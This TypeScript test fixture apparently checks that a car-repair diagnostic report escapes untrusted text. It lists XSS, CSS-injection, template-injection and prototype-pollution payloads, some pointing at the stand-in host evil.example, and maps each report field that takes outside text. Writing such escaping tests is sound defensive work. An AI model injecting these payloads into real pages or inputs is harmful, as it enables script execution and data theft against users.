import type { Job } from '../../shared/domain/job.ts'
import type { ReportContext } from '../../shared/report/report-model.ts'
import { batteryWorn, context } from './sample-jobs.ts'

/** Texts that would run, style or break something if any place of the report took them for markup. */
export const payloads = [
  '<img src=x onerror=alert(1)>', '"><script>alert(1)</script>', "'><svg/onload=alert(1)>", '</style><script>alert(1)</script>', '</title><img src=x>',
  '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '` onload=`alert(1)`', '<iframe srcdoc="<script>alert(1)</script>">', '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>*{display:none}</style>', '"} body{display:none} x{content:"', '";}*{background:url(https://evil.example/?)}', '\\22 }*{color:red}', '@import url(//evil.example);', 'expression(alert(1))',
  '<!-- ', '-->', ']]><x>', '<![CDATA[<x>]]>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&amp;&#x3C;b&#62;', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<math><mi xlink:href="data:x,<script>">',
  '<form action=//evil.example><input name=a>', '<object data=//evil.example>', '</td></tr></table><h1>Repaired</h1>', '<p class="nocall">', 'a\u202Eb\u2066c', 'nul\0 byte', 'lone \uD800 half', 'line\nbreak\r\nand\ttab',
  'constructor', '__proto__', '$& $1 $`', '\\', '<', '%3Cscript%3E', '🚗 Ünïcødé',
] as const

/** One place where text of a person, a car or a table enters the paper; `shows` is what is printed of it. */
export interface Door { name: string; put: (text: string) => { job: Job; context: ReportContext }; shows?: (text: string) => string }

type Change = (job: Job, text: string) => void
const inJob = (name: string, change: Change, shows?: Door['shows']): Door => ({
  name,
  put: (text) => {
    const job = structuredClone(batteryWorn)
    change(job, text)
    return { job, context: context() }
  },
  ...shows === undefined ? {} : { shows },
})
const inContext = (name: string, change: (text: string) => Partial<ReportContext>, shows?: Door['shows']): Door =>
  ({ name, put: (text) => ({ job: batteryWorn, context: context(change(text)) }), ...shows === undefined ? {} : { shows } })

type WithCheck = NonNullable<Job['check']>
const inCheck = (name: string, change: (check: WithCheck, text: string) => void, shows?: Door['shows']): Door =>
  inJob(name, (job, text) => { if (job.check !== null) change(job.check, text) }, shows)
const inVerdict = (name: string, change: (verdict: NonNullable<Job['verdict']>, text: string) => void): Door =>
  inJob(name, (job, text) => { if (job.verdict !== null) change(job.verdict, text) })

const grouped = (text: string): string => text.match(/[\s\S]{1,8}/g)?.join(' ') ?? ''
const vinGroups = (text: string): string => `${text.slice(0, 3)} ${text.slice(3, 9)} ${text.slice(9)}`

export const doors: readonly Door[] = [
  inJob('customer', (job, text) => { job.intake.customer = text }),
  inJob('plate', (job, text) => { job.intake.plate = text }),
  inJob('message', (job, text) => { job.intake.message = text }),
  inJob('key of an answer', (job, text) => { job.intake.answers = Object.fromEntries([[text, 'yes']]) }),
  inJob('value of an answer', (job, text) => { job.intake.answers.water = text }),
  inJob('bench', (job, text) => { job.bench = text }),
  inJob('job id', (job, text) => { job.id = text }),
  inJob('VIN of the job', (job, text) => { job.vin = text }, vinGroups),
  inCheck('VIN of the car', (check, text) => { if (check.facts.identity.vin.state === 'read') check.facts.identity.vin.value = text }, vinGroups),
  inCheck('chassis', (check, text) => { if (check.facts.identity.chassis.state === 'read') check.facts.identity.chassis.value = text }),
  inCheck('unknown variant', (check, text) => { check.facts.identity.unit.variant = text }),
  inCheck('name of the telematics unit', (check, text) => { check.facts.identity.unit.variant = 'unknown'; check.facts.identity.unit.name = text }),
  inCheck('variant index', (check, text) => { if (check.facts.identity.unit.index.state === 'read') check.facts.identity.unit.index.value = text }),
  inCheck('unit name', (check, text) => { for (const memory of check.facts.memories) memory.unitName = text }),
  inCheck('fault code', (check, text) => { for (const { faults } of check.facts.memories) if (faults.state === 'read') for (const fault of faults.value) fault.code = text }),
  inCheck('service of a source', (check, text) => { for (const { answer } of check.facts.readings) if (answer.source.kind === 'car') answer.source.service = text }),
  inCheck('row of a source', (check, text) => { for (const { answer } of check.facts.readings) answer.source = { kind: 'table', row: text } }),
  inCheck('value of a reading', (check, text) => { for (const { answer } of check.facts.readings) if (answer.state === 'read') answer.value = text }),
  inCheck('measure of a reading', (check, text) => { for (const reading of check.facts.readings) if (reading.unit !== null) reading.unit = text }),
  inCheck('cable', (check, text) => { check.cable = text }),
  inVerdict('reason', (verdict, text) => { for (const { because } of verdict.causes) for (const reason of because) reason.says = { en: text, de: text } }),
  inVerdict('fact of a reason', (verdict, text) => { for (const { because } of verdict.causes) for (const reason of because) reason.from = { kind: 'fact', id: text } }),
  inVerdict('answer of a reason', (verdict, text) => { for (const { because } of verdict.causes) for (const reason of because) reason.from = { kind: 'answer', key: text } }),
  inVerdict('next check', (verdict, text) => { if (verdict.nextCheck !== null) verdict.nextCheck = { ...verdict.nextCheck, id: text, says: { en: text, de: text }, why: { en: text, de: text } } }),
  inVerdict('catalogue version', (verdict, text) => { verdict.catalogueVersion = text }),
  inContext('shop name', (text) => ({ shop: { name: text, address: '', phone: '' } })),
  inContext('shop address and phone', (text) => ({ shop: { name: 'Shop', address: text, phone: text } })),
  inContext('app version', (text) => ({ appVersion: text })),
  inContext('job hash', (text) => ({ jobHash: text }), grouped),
  inContext('audit head', (text) => ({ auditHead: text }), grouped),
  inContext('meaning of a fault', (text) => ({ meaning: () => ({ says: { en: text, de: text }, source: text, known: false }) })),
]
